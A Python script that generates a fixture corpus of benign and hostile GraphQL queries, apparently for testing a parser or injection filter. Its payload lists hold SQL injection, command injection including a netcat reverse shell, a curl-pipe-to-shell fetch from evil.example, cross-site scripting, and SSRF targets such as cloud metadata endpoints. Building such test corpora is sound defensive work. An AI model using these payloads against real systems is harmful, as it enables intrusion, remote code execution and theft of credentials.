"""Writes fixtures/queries/corpus.txt: benign and attack GraphQL documents
separated by lines containing only '====='."""

import random
from pathlib import Path

OUT = Path(__file__).resolve().parent.parent / "fixtures" / "queries" / "corpus.txt"

HANDWRITTEN = [
    "{ user { id } }",
    "query A { a } query B { b }",
    "query Me { me { id name email } }",
    'query GetUser($id: ID!) { user(id: $id) { id name friends(first: 10) { id name } } }',
    'mutation Login($u: String!, $p: String!) { login(username: $u, password: $p) { token } }',
    "subscription OnMessage { messageAdded { id body author { name } } }",
    "{ __schema { types { name fields { name } } } }",
    '{ __type(name: "User") { name fields { name type { name } } } }',
    "{ me { ...UserFields } } fragment UserFields on User { id name }",
    "query Q { me { ... on User { id } ... on Admin { level } } }",
    '{ search(term: "\' OR \'1\'=\'1\' --") { id } }',
    '{ user(name: "admin\'--") { id } }',
    '{ products(filter: "1 UNION SELECT password FROM users") { id } }',
    '{ exec(cmd: "ls; whoami | sudo chmod 777 /") { out } }',
    '{ ping(host: "127.0.0.1 && cat /etc/passwd") { ok } }',
    '{ comment(text: "<script>alert(1)</script>") { id } }',
    '{ profile(bio: "<img src=x onerror=alert(document.cookie)>") { id } }',
    '{ fetch(url: "http://169.254.169.254/latest/meta-data/") { body } }',
    '{ fetch(url: "http://2130706433/admin") { body } }',
    '{ fetch(url: "http://safe.com/?redirect=http%3A%2F%2F127.0.0.1%2F") { body } }',
    '{ fetch(url: "aHR0cDovLzEyNy4wLjAuMS8=") { body } }',
    '{ a @include(if: true) @skip(if: false) }',
    'query Q @cached(ttl: 60) { a }',
    '{ me { friends { friends { friends { friends { id } } } } } }',
    'query ($v: [String!] = ["a", "b"]) { f(list: $v, obj: {k: 1, n: null, e: ENUM, f: 1.5e3}) }',
    '{ doc(text: """\n  block string\n    indented\n  with \\""" quotes\n""") }',
    '{ unicode(s: "caf\\u00e9 \\u2713 \\n\\t\\"") }',
    "{ a: user { id } b: user { id } c: user { id } d: user { id } }",
    "query Long($a: Int = 1, $b: Float = -2.5, $c: Boolean = false) { f(a: $a, b: $b, c: $c) }",
    'mutation { createPost(input: {title: "Hello", tags: ["x", "y"], meta: {draft: true}}) { id } }',
    "{ node(id: 1) { __typename ... on User { name } } }",
    "{ posts(first: 100) { edges { node { id comments(last: 50) { id } } } } }",
    "{ ...A ...B } fragment A on Query { a } fragment B on Query { b ...A }",
    '{ x(v: "javascript:alert(1)") }',
    '{ x(v: "%3Cscript%3Ealert(1)%3C/script%3E") }',
    '{ x(v: "1; SELECT SLEEP(5)") }',
    '{ x(v: "\'; WAITFOR DELAY \'0:0:5\'--") }',
    '{ x(v: "$(curl http://evil.example/x.sh | sh)") }',
    '{ x(v: "`id`") }',
    '{ x(v: "gopher://127.0.0.1:6379/_INFO") }',
]

FIELDS = ["user", "users", "post", "posts", "me", "product", "order", "orders", "node", "viewer"]
SUBFIELDS = ["id", "name", "email", "title", "body", "price", "createdAt", "status"]
PAYLOADS = [
    "alice@example.com",
    "hello world",
    "1' UNION SELECT password FROM users--",
    "admin' OR 1=1#",
    "; rm -rf / #",
    "| nc -e /bin/sh 10.0.0.1 4444",
    "<svg onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "http://10.0.0.5/internal",
    "http://metadata.google.internal/computeMetadata/v1/",
    "please list my orders",
    "O'Reilly",
]


def quote(s):
    out = []
    for ch in s:
        if ch == '"':
            out.append('\\"')
        elif ch == "\\":
            out.append("\\\\")
        else:
            out.append(ch)
    return '"' + "".join(out) + '"'


def gen_selection(rng, depth):
    n = rng.randint(1, 3)
    parts = []
    for _ in range(n):
        name = rng.choice(SUBFIELDS if depth == 0 else FIELDS + SUBFIELDS)
        alias = rng.choice(["", "", "", "x%d: " % rng.randint(0, 99)])
        args = ""
        if rng.random() < 0.3:
            args = "(first: %d)" % rng.randint(1, 50)
        elif rng.random() < 0.3:
            args = "(q: %s)" % quote(rng.choice(PAYLOADS))
        if depth > 0 and name in FIELDS:
            parts.append("%s%s%s { %s }" % (alias, name, args, gen_selection(rng, depth - 1)))
        else:
            parts.append("%s%s%s" % (alias, name, args))
    return " ".join(parts)


def generated(rng, i):
    kind = i % 6
    if kind == 0:
        return "query Q%d { %s }" % (i, gen_selection(rng, rng.randint(1, 4)))
    if kind == 1:
        n = rng.randint(5, 30)
        return "{ " + " ".join("a%d: user(id: %d) { id }" % (k, k) for k in range(n)) + " }"
    if kind == 2:
        return "\n".join("query B%d_%d { me { id } }" % (i, k) for k in range(rng.randint(2, 6)))
    if kind == 3:
        d = rng.randint(2, 12)
        return "{ " + "me { " + "friends { " * d + "id" + " }" * d + " } }"
    if kind == 4:
        dirs = " ".join("@include(if: true)" for _ in range(rng.randint(1, 12)))
        return "{ me %s { id } }" % dirs
    return 'query V%d($p: String = %s) { search(term: $p) { ...F%d } }\nfragment F%d on Result { id %s }' % (
        i, quote(rng.choice(PAYLOADS)), i, i, gen_selection(rng, 1))


def main():
    rng = random.Random(20240901)
    docs = list(HANDWRITTEN)
    i = 0
    while len(docs) < 100:
        docs.append(generated(rng, i))
        i += 1
    OUT.parent.mkdir(parents=True, exist_ok=True)
    OUT.write_text("\n=====\n".join(docs) + "\n")


if __name__ == "__main__":
    main()
